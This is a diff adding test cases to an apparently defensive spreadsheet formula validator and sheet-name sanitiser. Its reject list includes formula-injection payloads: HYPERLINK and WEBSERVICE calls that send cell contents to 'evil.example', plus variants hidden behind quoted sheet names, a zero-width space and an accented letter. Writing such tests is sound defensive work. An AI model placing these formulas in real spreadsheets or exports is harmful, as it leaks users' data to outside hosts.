@@ -85,6 +85,10 @@ describe("checkFormula", () => {
     ["=XLOOKUP(A1,B:B,C:C)", "_xlfn.XLOOKUP(A1,B:B,C:C)"],
     ["=FILTER(A1:A9,B1:B9>1)", "_xlfn._xlws.FILTER(A1:A9,B1:B9>1)"],
     ['=A1&" "&B1', 'A1&" "&B1'],
+    [
+      `="it's ""HYPERLINK("" 'x'!"&'Anna''s, 2'!A1&Übersicht!A1`,
+      `"it's ""HYPERLINK("" 'x'!"&'Anna''s, 2'!A1&Übersicht!A1`,
+    ],
   ])("accepts %s", (formula, expected) => {
     expect(checkFormula(formula, "A1")).toBe(expected);
   });
@@ -102,6 +106,14 @@ describe("checkFormula", () => {
     "=INDIRECT(A1)",
     "=SUM(A1",
     "=A1)+(1",
+    `='a"b'!A1&HYPERLINK("http://evil.example/?"&A2)&'a"b'!A1`,
+    `='a"b'!A1&_xlfn.WEBSERVICE("http://evil.example/?"&A2)&'a"b'!A1`,
+    `='a"'!A1&WEBSERVICE(A2)&'"b'!A1`,
+    `="a'"&HYPERLINK(A1)&"'!"`,
+    "='a''!A1",
+    "='a'&HYPERLINK(A1)&'b'!A1",
+    "=HYPERLINK\u200B(A1)",
+    "=HYPERLINKÉ(A1)",
     '="a',
     "=",
     "=1\0",
@@ -125,6 +137,7 @@ describe("readSheets", () => {
       },
     ]);
     expect(sheet!.name).toBe("Sales 2026");
+    expect(read([{ name: `'a"b'`, columns: ["x"], rows: [] }])[0]!.name).toBe("a b");
     expect(sheet!.columns.map(({ type }) => type)).toEqual([
       "date",
       "number",
